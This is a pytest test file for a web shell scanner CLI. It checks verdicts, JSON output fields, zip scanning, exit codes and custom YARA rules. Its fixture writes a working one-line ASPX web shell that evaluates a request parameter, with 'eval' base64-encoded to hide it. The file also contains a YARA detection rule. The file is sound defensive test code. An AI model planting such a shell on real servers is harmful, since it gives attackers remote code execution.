"""``tocsin webshells``, as it is typed."""

from __future__ import annotations

import base64
import json
import zipfile
from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

from tocsin.cli import app

RUN = base64.b64decode("ZXZhbA==").decode()
SHELL = f'<%@ Page Language="JScript"%><%{RUN}(Request.Item["z"],"unsafe");%>'
RULE = """
rule added_words {
    meta:
        author = "Erika Mustermann"
        license = "CC0-1.0"
    strings:
        $word = "unsafe"
    condition:
        $word and extension == ".aspx"
}
"""


def run(*arguments: object) -> Result:
    return CliRunner().invoke(app, ["webshells", *(str(argument) for argument in arguments)])


@pytest.fixture
def pages(tmp_path: Path) -> Path:
    folder = tmp_path / "pages"
    folder.mkdir()
    (folder / "a.aspx").write_text(SHELL, "utf-8")
    (folder / "b.aspx").write_text(SHELL.replace('"z"', '"other"'), "utf-8")
    (folder / "c.aspx").write_text("<p>quiet</p>", "utf-8")
    (folder / "d.bin").write_bytes(bytes(range(256)))
    return folder


def _objects(result: Result) -> dict[str, dict[str, object]]:
    found = [json.loads(line) for line in result.stdout.splitlines()]
    return {Path(str(one["path"])).name: one for one in found}


def test_every_file_with_code_or_a_served_name_has_a_line(pages: Path) -> None:
    result = run(pages, "--jsonl")
    found = _objects(result)
    assert result.exit_code == 20
    assert set(found) == {"a.aspx", "b.aspx", "c.aspx"}
    assert found["a.aspx"]["verdict"] == "shell"
    assert found["c.aspx"]["verdict"] == "clean"
    assert {
        "path",
        "sha256",
        "language",
        "score",
        "verdict",
        "state",
        "family",
        "capabilities",
        "spans",
        "flow",
        "similar",
    } <= set(found["a.aspx"])
    assert found["b.aspx"]["similar"] == [found["a.aspx"]["path"]]


def test_people_read_what_it_is_where_and_why(pages: Path) -> None:
    result = run(pages / "a.aspx")
    assert result.exit_code == 20
    assert result.stdout.startswith("SHELL")
    assert "line 1, bytes" in result.stdout
    assert RUN + "(Request" not in result.stdout


def test_a_container_is_read_in_place(pages: Path, tmp_path: Path) -> None:
    packed = tmp_path / "pages.zip"
    with zipfile.ZipFile(packed, "w") as out:
        for page in pages.iterdir():
            out.write(page, f"inetpub/wwwroot/{page.name}")
    assert _objects(run(packed, "--jsonl"))["a.aspx"]["verdict"] == "shell"


def test_nothing_found_ends_with_nought(pages: Path) -> None:
    result = run(pages / "c.aspx")
    assert (result.exit_code, result.stdout) == (0, "")


def test_added_rules_are_shown_with_author_and_licence_and_change_no_score(
    pages: Path, tmp_path: Path
) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "a.yar").write_text(RULE, "utf-8")
    (rules / "broken.yar").write_text("rule {", "utf-8")
    result = run(pages, "--jsonl", "--rules", rules)
    found = _objects(result)
    plain = _objects(run(pages, "--jsonl"))
    matches = found["a.aspx"].pop("rules")
    assert isinstance(matches, list)
    assert [(one["rule"], one["author"], one["licence"]) for one in matches] == [
        ("added_words", "Erika Mustermann", "CC0-1.0")
    ]
    assert found["a.aspx"] == plain["a.aspx"]
    assert "broken.yar: what does not compile in it is left out" in result.stderr


def test_a_folder_without_rules_is_wrong_usage(pages: Path, tmp_path: Path) -> None:
    empty = tmp_path / "none"
    empty.mkdir()
    result = run(pages, "--rules", empty)
    assert result.exit_code != 0
    assert "no YARA rules" in str(result.exception)


def test_an_empty_folder_is_said_and_not_called_clean(tmp_path: Path) -> None:
    result = run(tmp_path)
    assert result.exit_code == 4
    assert result.stderr
